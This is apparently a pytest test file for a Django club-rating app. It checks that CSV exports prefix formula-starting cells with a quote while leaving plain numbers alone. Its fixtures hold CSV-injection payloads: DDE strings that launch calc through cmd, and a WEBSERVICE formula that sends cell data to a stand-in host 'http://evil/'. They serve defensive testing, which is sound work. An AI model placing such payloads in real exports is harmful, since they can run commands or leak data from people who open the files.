"""CSV exports cannot carry a spreadsheet formula (OWASP "CSV Injection"): a cell that
starts with = + - @ tab or carriage return is prefixed with a single quote; a plain
number (a negative rating change) stays a number."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from django.test import Client

from clubrating.club.store.models import Club
from clubrating.formats.csv import spreadsheet_cell

from .conftest import member, publish_typed

FORMULAS = [
    '=HYPERLINK("http://evil")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
]
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+2", "'=1+2"),
        ("+1", "+1"),
        ("-12.5", "-12.5"),
        ("+3.0", "+3.0"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Anna Smith", "Anna Smith"),
        ("", ""),
        ("1200.0", "1200.0"),
        ("-1e9", "'-1e9"),
        ("+1+1", "'+1+1"),
        (12, 12),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_quoted_and_a_number_is_left_alone(
    value: object, written: object
) -> None:
    assert spreadsheet_cell(value) == written


def _cells(url: str) -> list[list[str]]:
    response = Client().get(url)
    assert response.status_code == 200, url
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_no_csv_export_of_the_club_starts_a_cell_with_a_formula(club: Club) -> None:
    lines = [
        f"1, {FORMULAS[0]}, {FORMULAS[1]}, 0-1",
        f"1, {FORMULAS[2]}, {FORMULAS[3]}, 1-0",
        f"2, {FORMULAS[0]}, {FORMULAS[2]}, 0-1",
        f"2, {FORMULAS[1]}, {FORMULAS[3]}, 1/2-1/2",
    ]
    publish_typed(club, "\n".join(lines), '=WEBSERVICE("http://evil/"&A1)', dt.date(2024, 2, 6))
    players = [member(club, name) for name in FORMULAS]
    urls = ["/c/riverside/ratings.csv"] + [f"/c/riverside/p/{p.id}/history.csv" for p in players]
    cells = [cell for url in urls for row in _cells(url) for cell in row]
    formulas = [c for c in cells if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c)]
    assert formulas == []
    assert "'" + FORMULAS[0] in cells and '\'=WEBSERVICE("http://evil/"&A1)' in cells
    changes = [row[6] for p in players for row in _cells(f"/c/riverside/p/{p.id}/history.csv")[1:]]
    assert any(c.startswith("-") for c in changes) and all(NUMBER.fullmatch(c) for c in changes)
